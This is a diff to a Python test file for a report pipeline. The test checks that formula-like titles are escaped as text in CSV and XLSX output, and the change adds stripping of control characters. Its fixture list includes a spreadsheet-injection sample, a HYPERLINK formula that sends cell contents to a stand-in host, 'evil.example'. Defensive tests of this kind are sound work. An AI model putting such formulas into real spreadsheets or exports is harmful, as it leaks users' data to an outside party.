@@ -751,6 +751,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2",
 
 def test_formula_like_text_is_text_in_csv_and_xlsx(factory, tmp_path):
     from pipeline.report.text import csv_safe, formula_like
+    from pipeline.vietnamese import strip_control
 
     assert [formula_like(f) for f in FORMULAS] == [True] * 6
     assert not formula_like("Tin =1") and not formula_like(-3) and not formula_like("")
@@ -771,7 +772,8 @@ def test_formula_like_text_is_text_in_csv_and_xlsx(factory, tmp_path):
     write_report(report, "csv", tmp_path / "r.csv")
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
         titles = {r["key"]: r["title"] for r in csv.DictReader(f) if r["section"] == "item"}
-    assert titles == {f"f{i}": "'" + t for i, t in enumerate(FORMULAS)}
+    # (a control character such as the CR is dropped from every report: what remains is still text)
+    assert titles == {f"f{i}": "'" + strip_control(t) for i, t in enumerate(FORMULAS)}
 
     openpyxl = pytest.importorskip("openpyxl")
     write_report(report, "xlsx", tmp_path / "r.xlsx")
@@ -779,7 +781,7 @@ def test_formula_like_text_is_text_in_csv_and_xlsx(factory, tmp_path):
     cells = {row[1].value: row[3] for row in ws.iter_rows(min_row=2)}
     for i, t in enumerate(FORMULAS):
         cell = cells[f"f{i}"]
-        assert (cell.value, cell.data_type, cell.quotePrefix) == (t, "s", True)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (strip_control(t), "s", True)
 
 
 def test_loa_log_csv_writes_a_formula_title_as_text(tmp_path, monkeypatch, capsys):
